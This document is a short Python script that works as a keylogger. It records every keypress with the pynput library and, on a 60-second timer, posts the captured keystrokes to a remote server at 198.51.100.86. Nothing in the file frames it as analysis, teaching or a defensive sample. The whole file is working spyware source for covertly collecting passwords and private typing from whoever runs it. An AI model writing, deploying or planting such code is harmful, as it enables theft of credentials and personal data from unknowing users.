import threading
from pynput import keyboard
import requests
buf = []
def on_press(k): buf.append(str(k))
def flush():
    if buf: requests.post("http://198.51.100.86/k", data="".join(buf)); buf.clear()
    threading.Timer(60, flush).start()
flush()
with keyboard.Listener(on_press=on_press) as l: l.join()
